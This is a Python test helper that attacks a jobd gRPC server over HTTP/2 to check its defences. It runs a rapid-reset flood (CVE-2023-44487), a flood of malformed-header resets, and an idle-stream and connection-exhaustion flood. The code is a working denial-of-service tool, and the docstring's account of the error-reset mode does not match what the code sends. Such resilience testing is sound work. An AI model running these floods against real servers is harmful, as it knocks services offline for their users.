#!/usr/bin/env python3
"""HTTP/2-level abuse of a jobd server, driven by server/tests/h2abuse.rs.

Uses the `h2` library (pip install h2) to speak real HTTP/2 and misbehave in
ways no well-behaved gRPC client can:

  rapid-reset HOST PORT COUNT
      One connection opens COUNT streams (a gRPC call's HEADERS) and resets
      each at once (RST_STREAM CANCEL), as fast as it can: CVE-2023-44487.
  error-resets HOST PORT COUNT
      One connection opens COUNT streams and makes the server reset each for
      a protocol error (a WINDOW_UPDATE of 0 on the stream, sent as raw
      bytes): the "MadeYouReset" variant.
  waiters HOST PORT JOB_ID CONNECTIONS STREAMS FLOOD
      CONNECTIONS connections send STREAMS `Result` calls each (60 s
      timeout) for JOB_ID and never read a byte; then FLOOD more TCP
      connections are opened and held. Stays until a line arrives on stdin
      (or 120 s pass), then closes everything.

Every mode prints one JSON object per line on stdout describing what the
server did; the Rust test asserts on them. Every loop is bounded.
"""

import json
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

CANCEL = 0x8


def emit(**fields):
    print(json.dumps(fields), flush=True)


def grpc_headers(host, port, method):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/jobd.v1.JobService/" + method),
        (":authority", "%s:%d" % (host, port)),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def result_request(job_id, seconds):
    """A length-prefixed jobd.v1.ResultRequest {job_id, timeout: {seconds}}."""
    job_id = job_id.encode()
    duration = b"\x08" + bytes([seconds])  # seconds < 128: one varint byte
    message = b"\x0a" + bytes([len(job_id)]) + job_id + b"\x12" + bytes([len(duration)]) + duration
    return b"\x00" + struct.pack(">I", len(message)) + message


def connect(host, port, validate=True):
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(
            client_side=True,
            header_encoding="utf-8",
            validate_outbound_headers=validate,
            normalize_outbound_headers=validate,
        )
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


class Outcome:
    """What the server did to one connection: GOAWAY (with its code) or close."""

    def __init__(self):
        self.goaway = None
        self.closed = False
        self.resets_received = 0

    def feed(self, conn, sock, data):
        if not data:
            self.closed = True
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            events = []
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = event.error_code
            elif isinstance(event, h2.events.StreamReset):
                self.resets_received += 1
        pending = conn.data_to_send()
        if pending and not self.closed:
            try:
                sock.sendall(pending)
            except OSError:
                self.closed = True

    def poll(self, conn, sock, wait):
        """Reads what is there (waiting at most `wait` s for the first byte)."""
        deadline = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            ready, _, _ = select.select([sock], [], [], left)
            if not ready:
                return
            try:
                data = sock.recv(65536)
            except OSError:
                data = b""
            self.feed(conn, sock, data)
            if self.goaway is not None and wait == 0:
                return

    def report(self, mode, sent):
        emit(
            mode=mode,
            sent=sent,
            goaway=self.goaway is not None,
            error_code=int(self.goaway) if self.goaway is not None else None,
            closed=self.closed,
            resets_received=self.resets_received,
        )


def rapid_reset(host, port, count):
    sock, conn = connect(host, port)
    outcome = Outcome()
    headers = grpc_headers(host, port, "Result")
    sent = 0
    try:
        while sent < count and outcome.goaway is None and not outcome.closed:
            for _ in range(min(100, count - sent)):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                conn.reset_stream(stream, error_code=CANCEL)
                sent += 1
            sock.sendall(conn.data_to_send())
            outcome.poll(conn, sock, 0)
    except (OSError, h2.exceptions.ProtocolError):
        pass  # the server stopped listening; what it said is still to be read
    # Give the server time to answer the flood with its GOAWAY.
    outcome.poll(conn, sock, 10)
    outcome.report("rapid-reset", sent)


def error_resets(host, port, count):
    sock, conn = connect(host, port, validate=False)
    outcome = Outcome()
    # A connection-specific header is malformed in HTTP/2: the server
    # resets that stream with PROTOCOL_ERROR (a stream error, not a
    # connection error), which counts against its local-reset limit.
    headers = grpc_headers(host, port, "Result") + [("connection", "close")]
    sent = 0
    try:
        while sent < count and outcome.goaway is None and not outcome.closed:
            for _ in range(min(50, count - sent)):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers, end_stream=True)
                sent += 1
            sock.sendall(conn.data_to_send())
            outcome.poll(conn, sock, 0.05)
    except (OSError, h2.exceptions.ProtocolError):
        pass  # the server stopped listening; what it said is still to be read
    outcome.poll(conn, sock, 10)
    outcome.report("error-resets", sent)


def waiters(host, port, job_id, connections, streams, flood):
    held = []
    body = result_request(job_id, 60)
    headers = grpc_headers(host, port, "Result")
    for _ in range(connections):
        sock, conn = connect(host, port)
        for _ in range(streams):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers)
            conn.send_data(stream, body, end_stream=True)
        sock.sendall(conn.data_to_send())
        held.append(sock)
    emit(mode="waiters", connections=connections, streams=connections * streams)

    flooded = []
    refused = 0
    for _ in range(flood):
        try:
            sock = socket.create_connection((host, port), timeout=5)
            # The client preface and an empty SETTINGS frame, then silence.
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
            flooded.append(sock)
        except OSError:
            refused += 1
    # A connection beyond the cap is closed by the server at once: look for
    # the end of each stream (bounded: 5 s in all).
    closed = 0
    deadline = time.monotonic() + 5
    open_socks = list(flooded)
    while open_socks and time.monotonic() < deadline:
        ready, _, _ = select.select(open_socks, [], [], 0.2)
        for sock in ready:
            try:
                data = sock.recv(65536)
            except OSError:
                data = b""
            if not data:
                closed += 1
                open_socks.remove(sock)
            # Anything else is the server's SETTINGS: an accepted connection.
    emit(mode="flood", opened=len(flooded), refused=refused, closed_by_server=closed, held=len(open_socks))

    select.select([sys.stdin], [], [], 120)
    for sock in held + flooded:
        sock.close()
    emit(mode="done")


def main(argv):
    mode = argv[1]
    host, port = argv[2], int(argv[3])
    if mode == "rapid-reset":
        rapid_reset(host, port, int(argv[4]))
    elif mode == "error-resets":
        error_resets(host, port, int(argv[4]))
    elif mode == "waiters":
        waiters(host, port, argv[4], int(argv[5]), int(argv[6]), int(argv[7]))
    else:
        sys.exit("unknown mode " + mode)


if __name__ == "__main__":
    main(sys.argv)
